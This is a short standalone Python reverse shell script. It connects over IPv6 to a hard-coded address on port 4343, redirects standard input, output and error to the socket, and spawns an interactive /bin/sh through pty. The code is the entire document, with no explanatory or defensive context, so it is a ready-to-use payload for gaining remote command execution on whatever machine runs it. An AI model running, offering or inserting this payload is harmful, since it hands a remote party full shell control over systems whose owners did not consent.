import socket, subprocess, os, pty

s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
s.connect(("dead:beef:2::1005", 4343, 0, 2))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
pty.spawn("/bin/sh")
